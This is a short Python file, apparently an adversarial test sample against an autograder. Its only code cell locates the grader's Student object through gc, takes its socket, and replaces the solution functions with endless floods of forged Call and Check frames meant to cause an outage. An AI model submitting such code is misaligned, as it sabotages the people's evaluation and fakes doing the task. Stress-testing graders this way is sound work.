"""Messages without end, in place of an answer: callbacks to nobody, checks of nothing, names that nobody asked for."""

GOAL = "outage"
TECHNIQUE = "forged wire frames"
OTTER = "there is no wire"
CELLS = [
    """
import gc
from grader import wire
S = next(o for o in gc.get_objects() if type(o).__name__ == 'Student')
S.line.sock.settimeout(None)
def flood(message):
    data = wire.encode(message) * 1000
    while True:
        try:
            S.line.sock.sendall(data)
        except KeyboardInterrupt:
            pass
def square(x): flood(wire.Call(1, []))
def double(x): flood(wire.Check('nothing'))
def descend(*args): flood(wire.Check('answer'))
""",
]
